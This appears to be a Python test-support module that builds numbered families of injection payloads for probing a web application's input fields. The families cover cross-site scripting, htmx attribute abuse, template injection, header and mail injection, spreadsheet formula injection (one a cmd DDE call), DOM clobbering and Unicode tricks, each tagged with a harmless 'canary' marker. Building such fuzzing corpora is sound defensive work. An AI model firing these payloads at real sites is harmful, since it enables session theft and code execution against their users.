"""What hostile people write where a name or a message is asked for: families of payloads, made and not collected.

Each payload bears the word "canary" and its own number: it calls `canary(7)`, asks for `/canary/7`, or leaves an
element or an attribute of that name. So whatever runs, is asked for or grows on a page tells where it came from.
`BEGINNERS` work only where they stand first; the others anywhere in a text.
"""

import base64
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

MARK = "canary"
CALL, PATH = "canary(§)", "/canary/§"
IMAGE = f"<img src=x onerror={CALL}>"
SVG = f"<svg onload={CALL}>"


@dataclass(frozen=True)
class Payload:
    """One hostile text, and the family that it comes from."""

    number: int
    family: str
    text: str

    def __str__(self) -> str:
        return self.text


def scripts() -> Iterator[str]:
    """The tag itself, as parsers still read it when filters no longer do."""
    call = CALL
    yield f"<script>{call}</script>"
    yield f"<ScRiPt>{call}</sCrIpT>"
    yield f"<script >{call}</script >"
    yield f"<script\t>{call}</script\t>"
    yield f"<script/x>{call}</script>"
    yield f"<script>{call}"
    yield f"<<script>{call}//<</script>"
    yield f"<scr<script>ipt>{call}</scr</script>ipt>"
    yield f"<script src={PATH}></script>"
    yield f"<script src=data:,{call}></script>"
    yield f"<script type=module>{call}</script>"
    yield f"<script async defer src='{PATH}'></script>"
    yield f"<svg><script>{call}</script></svg>"
    yield f"<svg><script href={PATH} /></svg>"
    yield "<svg><script>&#99;anary(§)</script></svg>"
    yield f"<!--><script>{call}</script>-->"


ELEMENTS = (
    *("img src=x onerror", "svg onload", "body onload", "body onpageshow", "iframe onload", "style onload"),
    *("link rel=stylesheet href=/static/css/base.css onload", "video src=x onerror", "audio src=x onerror"),
    *("video><source onerror", "object data=x onerror", "embed src=/ onload", "input type=image src=x onerror"),
    *("input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus"),
    *("a tabindex=0 autofocus onfocus", "details open ontoggle", "i popover onbeforetoggle", "dialog open oncancel"),
    *("marquee onstart", "form onsubmit", "b onclick", "b onmouseover", "b onpointerenter", "b onpointerrawupdate"),
    *("b onwheel", "p oncontextmenu", "p contenteditable onblur", "summary oncopy", "ol onscroll"),
    *("i style=animation:x onanimationstart", "i style=transition:1s ontransitionend", "math onclick"),
    *(
        "p style=display:block;content-visibility:auto oncontentvisibilityautostatechange",
        "i hidden=until-found onbeforematch",
    ),
    *("svg><animate onbegin", "svg><set onend", "track onerror", "frameset onload", "meter onmousemove"),
)


def handlers() -> Iterator[str]:
    """Attributes that browsers themselves run, on the elements that set them off without being asked, and on others."""
    for element in ELEMENTS:
        yield f"<{element}={CALL}>"
    for gap in ("/", "\t", "\n", "\f", "\r"):
        yield f"<svg{gap}onload={CALL}>"
    for quoted in ('"canary(§)"', "'canary(§)'", "`canary(§)`", "canary`§`", "&#99;anary(§)", "top['canary'](§)"):
        yield f"<img src=x onerror={quoted}>"
    yield f"<img src=x ONERROR={CALL} //"
    yield f"<img src=x oNeRrOr\t=\n{CALL}>"
    yield f"<image src=x onerror={CALL}>"


def breakouts() -> Iterator[str]:
    """Out of an attribute, whatever quotes it, and out of the tag."""
    for quote in ('"', "'", "`", "", '\\"', "&quot;", "&#39;", "%22"):
        yield f"x{quote} autofocus onfocus={CALL} x={quote}"
        yield f"{quote}>{SVG}"
        yield f"{quote} hx-get={PATH} hx-trigger=load x={quote}"
        yield f"{quote} style=background:url({PATH}) x={quote}"
    yield f"x onmouseover={CALL} {MARK}"
    yield f"/onclick={CALL} {MARK}"
    yield f"\"'`>{IMAGE}"
    yield 'canary§\' or "1"="1'


def addresses() -> Iterator[str]:
    """For a place that makes a link of what it is given; these must stand first."""
    yield f"javascript:{CALL}"
    yield f"JaVaScRiPt:{CALL}"
    yield f" javascript:{CALL}"
    yield f"java\tscript:{CALL}"
    yield f"java\nscript:{CALL}"
    yield f"\x01javascript:{CALL}"
    yield f"javascript&colon;{CALL}"
    yield f"&#106;avascript:{CALL}"
    yield f"&#x6A&#x61vascript:{CALL}"
    yield f"java&Tab;script:{CALL}"
    yield f"javascript%3A{CALL}"
    yield f"javascript://x/%0a{CALL}"
    yield f"vbscript:{CALL}"
    yield f"data:text/html,{SVG}"
    yield "data:text/html;base64," + base64.b64encode(b"<script>canary()</script>").decode() + "#canary§"
    yield f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>"
    yield f"feed:javascript:{CALL}"
    yield "//canary.test/canary/§"
    yield "\\\\canary.test\\canary\\§"
    yield "/\\canary.test/canary/§"
    yield "https:canary.test/canary/§"
    yield "blob:https://canary.test/canary/§"
    yield "file:///etc/passwd#canary§"


def links() -> Iterator[str]:
    """Links as tags, and text that a maker of links may take for more than an address."""
    for address in (
        "javascript:canary(§)",
        "JAVASCRIPT:canary(§)",
        "&#1;javascript:canary(§)",
        "data:text/html,canary§",
    ):
        yield f"<a href={address}>canary</a>"
        yield f"<svg><a xlink:href={address}><text>canary"
    yield f"<a href=/ ping={PATH}>canary</a>"
    yield f'https://canary.test/"onmouseover="{CALL}'
    yield f"https://canary.test/'onmouseover='{CALL}"
    yield f"https://canary.test/{IMAGE}"
    yield f"https://canary.test/?a=1&quot;onclick=&quot;{CALL}"
    yield "https://javascript:canary@canary.test/canary/§"
    yield f"http://[javascript:{CALL}]/"
    yield f'www.canary.test/"><svg/onload={CALL}>'
    yield f'canary§@canary.test"onclick={CALL}'
    yield f"mailto:canary§@canary.test?body={SVG}"
    yield "https://c\u0430nary.test/canary/§"
    yield "https://canary.test/\u202ecanary/§"
    yield f"[canary](javascript:{CALL})"
    yield "![canary](https://canary.test/canary/§)"
    yield f"<https://canary.test/canary/§|{SVG}>"


def entities() -> Iterator[str]:
    """What is markup once somebody decodes it once too often."""
    yield f"&lt;script&gt;{CALL}&lt;/script&gt;"
    yield f"&amp;lt;svg onload={CALL}&amp;gt;"
    yield f"&#60;svg onload={CALL}&#62;"
    yield f"&#x3c;svg onload={CALL}&#x3e;"
    yield f"&#0000060svg onload={CALL}&#0000062"
    yield f"\\u003csvg onload={CALL}\\u003e"
    yield f"\\x3csvg onload={CALL}\\x3e"
    yield f"%3Csvg onload={CALL}%3E"
    yield f"%253Csvg onload={CALL}%253E"
    yield f"&quot; onfocus={CALL} autofocus &quot;"
    yield f"&NewLine;&lt;img src=x onerror={CALL}&gt;"
    yield f"+ADw-svg onload={CALL}+AD4-"


def templates() -> Iterator[str]:
    """What template languages, formatters and shells would work out."""
    yield "{{ canary.§ }}"
    yield "{{ settings.SECRET_KEY }}canary§"
    yield "{{ canary§|safe }}" + SVG
    yield "{% debug %}canary§"
    yield '{% include "canary/§" %}'
    yield "{% endblocktranslate %}canary§"
    yield "{% verbatim %}canary§"
    yield "{# canary§"
    yield "{{ 7|add:canary§ }}"
    yield "%(canary§)s %s %n %%"
    yield "%(who)s%(table)s%(name)d canary§"
    yield "{0}{canary§.__class__}{name}"
    yield "${canary(§)}"
    yield "#{canary(§)}"
    yield "<%= canary(§) %>"
    yield "[[${canary(§)}]]"
    yield "$(canary §)`canary §`;canary §"
    yield "constructor.constructor('canary(§)')()"


ENDS = (
    *("-->", "--!>", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</svg>"),
    *("</math>", "</select>", "</button>", "</a>", "</li></ol>", "</form>", "</main></body>", "</p></details>"),
)
OPENINGS = (
    *("<!--", "<![CDATA[", "<?xml ", "<!DOCTYPE ", "<plaintext>", "<xmp>", "<listing>", "<noembed>", "<textarea>"),
    *("<title>", "<style>", "<template>", "<select>", "<table><td>", "<button>", "<form>", "<a>", "</", "<", "<%"),
)


def surroundings() -> Iterator[str]:
    """Out of whatever element it stands in, and elements that swallow what comes after."""
    for end in ENDS:
        yield f"{end}{SVG}"
    for opening in OPENINGS:
        yield f"{opening}canary§"


TRIGGERS = ("load", "revealed", "intersect", "every 1s", "load delay:1ms", "mouseover", "refresh", f"load[{CALL}]")


def htmx() -> Iterator[str]:
    """Attributes that htmx acts on, which no list of browsers' own knows."""
    for prefix in ("", "data-"):
        for verb in ("get", "post", "put", "patch", "delete"):
            yield f"<a {prefix}hx-{verb}={PATH} {prefix}hx-trigger=load>"
    for trigger in TRIGGERS:
        yield f'<i hx-get={PATH} hx-trigger="{trigger}">'
    for event in ("hx-on::load", "hx-on:click", "hx-on--after-settle", "hx-on:htmx:load", "data-hx-on::load"):
        yield f"<i {event}={CALL}>"
    yield f'<i hx-on="htmx:load: {CALL}">'
    yield f"<i hx-get={PATH} hx-trigger=load hx-vals='js:{{a:{CALL}}}'>"
    yield f"<i hx-get={PATH} hx-trigger=load hx-vars=a:{CALL}>"
    yield f"<i hx-get={PATH} hx-trigger=load hx-headers='js:{{a:{CALL}}}'>"
    yield f"<i hx-get={PATH} hx-trigger=load hx-request='js:timeout:{CALL}'>"
    yield f"<i hx-get={PATH} hx-trigger=load hx-target=body hx-include=*>"
    yield f"<i hx-get={PATH} hx-trigger=load hx-push-url=true hx-swap=delete hx-target=#main>"
    yield f"<i hx-ext=canary hx-get={PATH}>"
    yield f"<i hx-ws=connect:{PATH}>"
    yield f"<i hx-ext=sse sse-connect={PATH}>"
    yield f'<i hx-sse="connect:{PATH}">'
    yield f"<i hx-boost=true><a href={PATH}>canary</a></i>"
    yield "<i id=main hx-swap-oob=true>canary§</i>"
    yield "<i id=table hx-swap-oob=outerHTML>canary§</i>"
    yield '<i hx-swap-oob="beforeend:#messages">canary§</i>'
    yield f"<template><i hx-swap-oob='innerHTML:#main'>{IMAGE}</i></template>"
    yield "<i id=table hx-preserve>canary§</i>"
    yield "<i hx-history=false hx-history-elt id=canary§>"
    yield "<i hx-confirm=canary§ hx-prompt=canary§ hx-post=/>"
    yield "<i hx-disable hx-disinherit=* id=canary§>"
    yield f"<form hx-post={PATH} hx-trigger=load hx-include=body>"
    yield f"<b hx-get={PATH} hx-trigger='load from:body' hx-select-oob=#messages>"
    yield '<meta name=htmx-config content=\'{"allowEval":true,"canary":§}\'>'
    yield f"<title hx-get={PATH} hx-trigger=load>canary</title>"


CLOBBERED = (
    *(
        "table",
        "board",
        "play",
        "seats",
        "turns",
        "notice",
        "announce",
        "messages",
        "main",
        "cells",
        "talk",
        "log-list",
    ),
    *("nav-badge", "affairs", "sheet-0", "htmx", "account-menu", "csrfmiddlewaretoken", "canary", "slider", "push"),
)
PROPERTIES = ("attributes", "children", "action", "submit", "getElementById", "cookie", "body", "dataset", "closest")


def clobbering() -> Iterator[str]:
    """Names that take the place of what scripts look up by them."""
    for name in CLOBBERED:
        yield f"<a id={name} class=canary§>"
    for name in PROPERTIES:
        yield f"<form id=play class=canary§><input name={name}>"
    yield "<a id=table name=attributes title=canary§>"
    yield "<iframe name=table title=canary§>"


def documents() -> Iterator[str]:
    """Elements that load, lead away or change the whole page, no script needed."""
    yield f"<base href=//canary.test{PATH}/>"
    yield f"<meta http-equiv=refresh content=0;url={PATH}>"
    yield f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">'
    yield '<meta http-equiv=set-cookie content="canary=§">'
    yield f'<meta http-equiv=Content-Security-Policy content="img-src {PATH}">'
    yield f"<form action={PATH}><input name=a></form>"
    yield f"<button form=play formaction={PATH}>canary"
    yield f"<input type=submit formaction=javascript:{CALL}>"
    yield f"<iframe src={PATH}>"
    yield f"<iframe src=javascript:{CALL}>"
    yield f'<iframe srcdoc="<script>parent.{CALL}</script>">'
    yield f"<object data={PATH}>"
    yield f"<embed src={PATH}>"
    yield f"<frame src={PATH}>"
    yield f"<link rel=stylesheet href={PATH}>"
    yield f"<link rel=prefetch href={PATH}>"
    yield f"<link rel=manifest href={PATH}>"
    yield f"<link rel=modulepreload href={PATH}>"
    yield f'<script type=speculationrules>{{"prefetch":[{{"urls":["{PATH}"]}}]}}</script>'
    yield f'<script type=importmap>{{"imports":{{"a":"{PATH}"}}}}</script>'
    yield f"<style>@import'{PATH}'</style>"
    yield f"<style>*{{background:url({PATH})}}</style>"
    yield f"<p style=background:url({PATH})>"
    yield f"<img src={PATH}>"
    yield f"<img srcset={PATH}>"
    yield f"<picture><source srcset={PATH}><img>"
    yield f"<video poster={PATH}>"
    yield f"<audio src={PATH} autoplay>"
    yield f"<input type=image src={PATH}>"
    yield f"<body background={PATH}>"
    yield f"<table background={PATH}>"
    yield "<dialog open id=canary§>canary"
    yield "<i popover=manual id=canary§><button popovertarget=canary§ autofocus>"
    yield "<input autofocus accesskey=x id=canary§>"
    yield "<html manifest=/canary/§ lang=canary>"


def drawings() -> Iterator[str]:
    """SVG and MathML, where other rules hold."""
    yield f"<svg><image href={PATH}>"
    yield f"<svg><use href={PATH}#x>"
    yield f"<svg><a href=javascript:{CALL}><rect width=99 height=99>"
    yield f"<svg><animate attributeName=href values=javascript:{CALL}>"
    yield f"<svg><set attributeName=onmouseover to={CALL}>"
    yield f"<svg><foreignObject>{IMAGE}</foreignObject></svg>"
    yield f"<svg><style>@import'{PATH}'</style>"
    yield f"<svg><feImage href={PATH}>"
    yield f"<math href=javascript:{CALL}>canary</math>"
    yield f"<math><annotation-xml encoding=text/html>{IMAGE}"
    yield f"<svg xmlns:x=http://www.w3.org/1999/xlink x:href={PATH}>"


def mutations() -> Iterator[str]:
    """Harmless as a text is parsed once, and not when it is written out and parsed again."""
    yield f'<noscript><p title="</noscript>{IMAGE}">'
    yield f'<svg></p><style><g title="</style>{IMAGE}">'
    yield f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}-->"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}"
    yield f"<svg><style><!--</style>{IMAGE}--></style>"
    yield f"<table><td><style><a title='</style>{IMAGE}'>"
    yield f'<p title="`{IMAGE}`">'
    yield f"<select><template><style><!--</style><a rel='--></style></template></select>{IMAGE}'>"
    yield f"<xmp><p title='</xmp>{IMAGE}'>"
    yield f"<textarea><p title='</textarea>{IMAGE}'>"
    yield f"<svg><desc><title><a id='</title>{IMAGE}'>"
    yield f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>"


def letters() -> Iterator[str]:
    """Signs that hide, turn the text, look like others, or become others when they are folded."""
    yield f"canary§\u202e>{CALL}=daolno gvs<"
    yield "canary§\u2066\u202dcanary\u2069"
    yield f"<scr\u200bipt>{CALL}</scr\u200bipt>"
    yield f"<\ufeffsvg onload={CALL}>"
    yield f"\ufeff{SVG}"
    yield f"\uff1csvg onload={CALL}\uff1e"
    yield f"\ufe64svg onload={CALL}\ufe65"
    yield f"\u2039svg onload={CALL}\u203a"
    yield f"\uff02 onfocus={CALL} autofocus x=\uff02"
    yield f"\u02ba onfocus={CALL} \u02b9"
    yield f"<\u017fcript>{CALL}</\u017fcript>"
    yield f"<\u0130mg src=x onerror={CALL}>"
    yield f"\xc0\xbcsvg onload={CALL}\xc0\xbe"
    yield f"<sv\x00g onload={CALL}>"
    yield "canary§\x00canary"
    yield f"canary§\u2028{CALL}"
    yield "canary§\u2029canary"
    yield "canary§\ud800"
    yield "\udfff\ud800canary§"
    yield "canary§\ufffe\uffff"
    yield "c\u00ada\u00adn\u00adary§"
    yield "canary§\U000e0073\U000e0063\U000e0072"
    yield "ca\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308nary§"
    yield "\u0441\u0430n\u0430r\u0443 canary§"
    yield "\u200f\u061ccanary§"
    yield "\u200d\u200ccanary§"
    yield "\u05db\u05e0\u05e8\u05d9\u05ea canary§ <svg>"
    yield "canary§ \U0001f469\u200d\U0001f680"


def headers() -> Iterator[str]:
    """More lines of a header, of a log and of a stream than one, and words that mail programs read as addresses."""
    yield "canary§\r\nBcc: canary@canary.test"
    yield "canary§\nSubject: canary"
    yield "canary§\rX-Canary: canary"
    yield "canary§%0d%0aSet-Cookie: canary=1"
    yield "canary§\u560d\u560aSet-Cookie:canary=1"
    yield "canary§\x85X-Canary: canary"
    yield "canary§\x0bX-Canary: canary\x0c"
    yield "canary§ =?utf-8?q?=0D=0ABcc:_canary=40canary.test?="
    yield "canary§ <canary@canary.test>"
    yield '"canary§" <canary@canary.test>, '
    yield "canary§\r\n\r\n<svg onload=canary(§)>"
    yield "canary§\nevent: version\ndata: 999999\n\n"
    yield "data: canary§"
    yield "canary§\x1b[2J\x1b[31mcanary\x07"
    yield "canary§\x9b31mcanary"
    yield "2026-11-21 00:00 [critical] canary§ user=1"
    yield 'canary§", "level": "critical", "x": "'
    yield "canary§\n[info] request_finished code=200"


def formulas() -> Iterator[str]:
    """What spreadsheets work out; these must stand first, in a cell or behind what is taken for a separator."""
    yield '=HYPERLINK("//canary.test/canary/§";"canary")'
    yield "=1+canary§"
    yield "+canary§"
    yield "-2+3+canary§"
    yield "@SUM(canary§)"
    yield "\t=canary§"
    yield "\r=canary§"
    yield " =canary§"
    yield "=cmd|' /C canary§'!A0"
    yield "canary§;=1+1"
    yield 'canary§",=1+1,"'
    yield "canary§\t=1+1"
    yield "\uff1d1+canary§"
    yield "\u22121+canary§"
    yield "'=canary§"


def programs() -> Iterator[str]:
    """Out of a JSON text, a script's string or a comment."""
    yield '"}]}canary§'
    yield f'"}}</script>{SVG}'
    yield f"';{CALL};//"
    yield f'";{CALL};//'
    yield f"\\';{CALL};//"
    yield f"`;{CALL};`"
    yield f"*/{CALL}/*"
    yield "\\u2028canary§\\"
    yield "canary§\\"
    yield '{"__proto__": {"canary": §}}'
    yield "//# sourceMappingURL=/canary/§"


def chats() -> Iterator[str]:
    """What Discord, Slack and Mattermost read as calls, links and markup."""
    yield "@everyone canary§"
    yield "@here canary§"
    yield "<!channel> canary§"
    yield "<!here|canary§>"
    yield "<@U0123> <@&1> <#C1> canary§"
    yield "@all @channel canary§"
    yield "[canary](https://canary.test/canary/§)"
    yield "<https://canary.test/canary/§|canary>"
    yield "```canary§```"
    yield "||canary§|| ~~canary~~ __canary__"
    yield "# canary§"
    yield "> canary§"
    yield ":canary§: <:canary:1> <t:0:R>"
    yield "</canary:§>"
    yield "&lt;!channel&gt; canary§"
    yield "discord.gg/canary§"


def sizes() -> Iterator[str]:
    """Words that end nowhere."""
    yield "canary§" + "W" * 30
    yield "canary§" + "\ufdfd" * 20
    yield "canary§" + "W" * 900
    yield "canary§ " + "<b>" * 300
    yield "canary§ " + "&" * 900
    yield "canary§ " + "\u0301" * 500


FAMILIES: tuple[Callable[[], Iterator[str]], ...] = (
    *(scripts, handlers, breakouts, addresses, links, entities, templates, surroundings, htmx, clobbering, documents),
    *(drawings, mutations, letters, headers, formulas, programs, chats, sizes),
)
BEGINNERS = ("addresses", "formulas", "htmx")


@cache
def payloads() -> tuple[Payload, ...]:
    """All of them, each once."""
    texts = ((family.__name__, text) for family in FAMILIES for text in family())
    return tuple(
        Payload(number, family, text.replace("§", str(number))) for number, (family, text) in enumerate(texts, start=1)
    )


def fitting(longest: int) -> list[Payload]:
    """Those that a field of so many characters has room for."""
    return [payload for payload in payloads() if len(payload.text) <= longest]
